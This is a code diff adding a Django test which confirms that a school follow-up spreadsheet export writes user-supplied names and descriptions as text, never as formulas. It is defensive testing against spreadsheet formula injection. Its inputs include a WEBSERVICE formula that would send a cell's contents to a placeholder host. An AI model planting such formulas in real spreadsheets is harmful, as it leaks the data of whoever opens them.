@@ -7,6 +7,7 @@ from openpyxl import load_workbook
 from kombel.followups.enums import ItemStatus
 from kombel.schools.enums import Role
 from tests.factories import ActionItemFactory, MembershipFactory, SchoolFactory, UserFactory
+from tests.spreadsheets import FORMULA_NAME, formulas, text_cells_with
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 TODAY = timezone.localdate()
@@ -138,3 +139,32 @@ def test_export_query_count_small(client, django_assert_num_queries, school, fac
 
 def test_export_query_count_large(client, django_assert_num_queries, school, facilitator):
     _export_queries(client, django_assert_num_queries, school, facilitator, 12)
+
+
+def test_export_writes_names_and_descriptions_as_text_never_formulas(
+    client, school, teacher, facilitator
+):
+    teacher.full_name = FORMULA_NAME
+    teacher.save()
+    ActionItemFactory(
+        school=school,
+        owner=teacher,
+        description='=WEBSERVICE("http://x/?"&A2)',
+        status_note="@SUM(1)",
+        source_label="-2+3",
+    )
+    client.force_login(facilitator)
+    body = client.get(f"/s/{school.npsn}/followups/export.xlsx").content
+    assert formulas(body) == []
+    row = _rows(_sheet_of(body))[1]
+    assert (row[0], row[1], row[6], row[7]) == (
+        '=WEBSERVICE("http://x/?"&A2)',
+        FORMULA_NAME,
+        "@SUM(1)",
+        "-2+3",
+    )
+    assert text_cells_with(body, FORMULA_NAME) == ["Follow-ups!B2"]
+
+
+def _sheet_of(body):  # type: ignore[no-untyped-def]
+    return load_workbook(io.BytesIO(body)).active
